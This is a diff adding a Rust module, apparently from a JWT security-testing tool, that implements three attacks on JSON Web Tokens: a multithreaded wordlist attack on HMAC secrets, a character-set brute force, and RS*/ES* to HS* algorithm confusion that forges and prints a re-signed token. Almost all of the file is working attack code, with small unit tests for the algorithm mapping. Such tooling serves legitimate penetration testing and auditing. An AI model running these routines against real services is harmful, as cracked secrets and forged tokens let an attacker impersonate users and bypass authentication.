@@ -0,0 +1,276 @@
+use crate::cmd::crypto::{self, Algorithm, DecodingKey, EncodingKey};
+use log::{error, info};
+use serde_json::Value;
+use std::fs;
+use std::path::PathBuf;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::{Arc, Mutex};
+use std::thread;
+
+/// Attempts to crack a JWT's HMAC secret, or exploit an RS*/ES*->HS* algorithm
+/// confusion, depending on `mode`.
+#[allow(clippy::too_many_arguments)]
+pub fn execute(
+    token: &str,
+    mode: &str,
+    wordlist: &Option<PathBuf>,
+    chars: &str,
+    concurrency: usize,
+    max: usize,
+    power: bool,
+    verbose: bool,
+    pubkey: Option<&PathBuf>,
+) {
+    let alg = match crypto::peek_algorithm(token) {
+        Ok(a) => a,
+        Err(e) => {
+            error!("Failed to decode JWT header: {e}");
+            return;
+        }
+    };
+
+    match mode {
+        "dict" => crack_dict(token, alg, wordlist.as_ref(), concurrency, power, verbose),
+        "brute" => crack_brute(token, alg, chars, max, verbose),
+        "confusion" => crack_confusion(token, alg, pubkey),
+        other => error!("Unknown crack mode `{other}` (expected: dict, brute, confusion)"),
+    }
+}
+
+/// Number of worker threads to use for a dictionary attack.
+fn worker_count(concurrency: usize, power: bool) -> usize {
+    if power {
+        thread::available_parallelism().map(|n| n.get()).unwrap_or(1)
+    } else {
+        concurrency.max(1)
+    }
+}
+
+/// Tries `secret` as the HMAC key for `token`, ignoring claim validation.
+fn try_secret(token: &str, secret: &str) -> bool {
+    let key = DecodingKey::from_secret(secret.as_bytes());
+    crypto::decode(token, &key).is_ok()
+}
+
+/// Dictionary attack: tries each line of `wordlist` as the HMAC secret,
+/// spread across worker threads.
+fn crack_dict(
+    token: &str,
+    alg: Algorithm,
+    wordlist: Option<&PathBuf>,
+    concurrency: usize,
+    power: bool,
+    verbose: bool,
+) {
+    if !alg.is_hmac() {
+        error!("dict mode only applies to HMAC-signed (HS*) tokens, got {alg:?}");
+        return;
+    }
+    let Some(path) = wordlist else {
+        error!("dict mode requires --wordlist <file>");
+        return;
+    };
+    let words: Vec<String> = match fs::read_to_string(path) {
+        Ok(contents) => contents
+            .lines()
+            .filter(|l| !l.is_empty())
+            .map(str::to_string)
+            .collect(),
+        Err(e) => {
+            error!("Failed to read wordlist: {e}");
+            return;
+        }
+    };
+
+    let found = Arc::new(AtomicBool::new(false));
+    let secret = Arc::new(Mutex::new(None));
+    let workers = worker_count(concurrency, power);
+    let chunk_size = words.len().div_ceil(workers).max(1);
+
+    thread::scope(|scope| {
+        for chunk in words.chunks(chunk_size) {
+            let found = Arc::clone(&found);
+            let secret = Arc::clone(&secret);
+            scope.spawn(move || {
+                for word in chunk {
+                    if found.load(Ordering::Relaxed) {
+                        return;
+                    }
+                    if verbose {
+                        info!("Trying secret: {word}");
+                    }
+                    if try_secret(token, word) {
+                        *secret.lock().unwrap() = Some(word.clone());
+                        found.store(true, Ordering::Relaxed);
+                        return;
+                    }
+                }
+            });
+        }
+    });
+
+    let found_secret = secret.lock().unwrap().take();
+    match found_secret {
+        Some(secret) => info!("Secret found: {secret}"),
+        None => error!("Secret not found in wordlist"),
+    }
+}
+
+/// Brute-force attack: tries every combination of `chars` up to length `max`.
+fn crack_brute(token: &str, alg: Algorithm, chars: &str, max: usize, verbose: bool) {
+    if !alg.is_hmac() {
+        error!("brute mode only applies to HMAC-signed (HS*) tokens, got {alg:?}");
+        return;
+    }
+    let alphabet: Vec<char> = chars.chars().collect();
+    if alphabet.is_empty() {
+        error!("--chars must not be empty");
+        return;
+    }
+
+    for length in 1..=max {
+        let mut indices = vec![0usize; length];
+        loop {
+            let candidate: String = indices.iter().map(|&i| alphabet[i]).collect();
+            if verbose {
+                info!("Trying secret: {candidate}");
+            }
+            if try_secret(token, &candidate) {
+                info!("Secret found: {candidate}");
+                return;
+            }
+
+            // Odometer-style increment; `exhausted` stays true once every
+            // position has rolled over back to zero.
+            let mut exhausted = true;
+            for i in (0..length).rev() {
+                indices[i] += 1;
+                if indices[i] < alphabet.len() {
+                    exhausted = false;
+                    break;
+                }
+                indices[i] = 0;
+            }
+            if exhausted {
+                break;
+            }
+        }
+    }
+
+    error!("Secret not found within max length {max}");
+}
+
+/// Exploits classic RS*/ES* -> HS* algorithm confusion: rewrites the header's
+/// `alg` to the matching HMAC variant and signs the token using the target's
+/// raw public key bytes as the HMAC secret, then self-verifies the result.
+fn crack_confusion(token: &str, alg: Algorithm, pubkey: Option<&PathBuf>) {
+    let Some(pubkey_path) = pubkey else {
+        error!("confusion mode requires --pubkey <PEM>");
+        return;
+    };
+
+    let hmac_alg = match confusion_hmac_algorithm(alg) {
+        Some(a) => a,
+        None => {
+            error!("Algorithm confusion requires an RS*/ES* token, got {alg:?}");
+            return;
+        }
+    };
+
+    let pubkey_bytes = match fs::read(pubkey_path) {
+        Ok(b) => b,
+        Err(e) => {
+            error!("Failed to read public key: {e}");
+            return;
+        }
+    };
+
+    let mut segments = token.split('.');
+    let (Some(header_b64), Some(payload_b64)) = (segments.next(), segments.next()) else {
+        error!("Malformed JWT: expected header.payload.signature");
+        return;
+    };
+    let mut extra_header = match decode_claims(header_b64) {
+        Ok(Value::Object(h)) => h,
+        Ok(_) => {
+            error!("JWT header must be a JSON object");
+            return;
+        }
+        Err(e) => {
+            error!("Failed to decode header: {e}");
+            return;
+        }
+    };
+    // `crypto::encode` sets `alg` itself; every other original field is kept.
+    extra_header.remove("alg");
+    let claims: Value = match decode_claims(payload_b64) {
+        Ok(c) => c,
+        Err(e) => {
+            error!("Failed to decode payload: {e}");
+            return;
+        }
+    };
+
+    let encoding_key = EncodingKey::from_secret(&pubkey_bytes);
+    let forged_token = match crypto::encode(hmac_alg, &claims, &extra_header, &encoding_key) {
+        Ok(t) => t,
+        Err(e) => {
+            error!("Failed to forge token: {e}");
+            return;
+        }
+    };
+
+    let decoding_key = DecodingKey::from_secret(&pubkey_bytes);
+    match crypto::decode(&forged_token, &decoding_key) {
+        Ok(_) => {
+            info!(
+                "Algorithm confusion succeeded: {alg:?} token re-signed as {hmac_alg:?} using the public key as the HMAC secret"
+            );
+            info!("{forged_token}");
+        }
+        Err(e) => error!("Forged token failed self-verification: {e}"),
+    }
+}
+
+/// Maps an asymmetric algorithm to the HMAC variant of the same digest size,
+/// for the classic RS*/ES* -> HS* confusion attack. Returns `None` for
+/// algorithms the attack doesn't apply to (HS* itself, or PS*, which has no
+/// matching HMAC digest size mapping implemented here).
+fn confusion_hmac_algorithm(alg: Algorithm) -> Option<Algorithm> {
+    match alg {
+        Algorithm::RS256 | Algorithm::ES256 => Some(Algorithm::HS256),
+        Algorithm::RS384 | Algorithm::ES384 => Some(Algorithm::HS384),
+        Algorithm::RS512 => Some(Algorithm::HS512),
+        _ => None,
+    }
+}
+
+fn decode_claims(segment: &str) -> Result<Value, String> {
+    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
+    use base64::Engine;
+
+    let bytes = URL_SAFE_NO_PAD
+        .decode(segment)
+        .map_err(|e| format!("invalid base64url: {e}"))?;
+    serde_json::from_slice(&bytes).map_err(|e| format!("invalid JSON: {e}"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn confusion_maps_rs_and_es_to_matching_hmac_digest_size() {
+        assert_eq!(confusion_hmac_algorithm(Algorithm::RS256), Some(Algorithm::HS256));
+        assert_eq!(confusion_hmac_algorithm(Algorithm::ES256), Some(Algorithm::HS256));
+        assert_eq!(confusion_hmac_algorithm(Algorithm::RS384), Some(Algorithm::HS384));
+        assert_eq!(confusion_hmac_algorithm(Algorithm::ES384), Some(Algorithm::HS384));
+        assert_eq!(confusion_hmac_algorithm(Algorithm::RS512), Some(Algorithm::HS512));
+    }
+
+    #[test]
+    fn confusion_rejects_algorithms_without_a_mapping() {
+        assert_eq!(confusion_hmac_algorithm(Algorithm::HS256), None);
+        assert_eq!(confusion_hmac_algorithm(Algorithm::PS256), None);
+    }
+}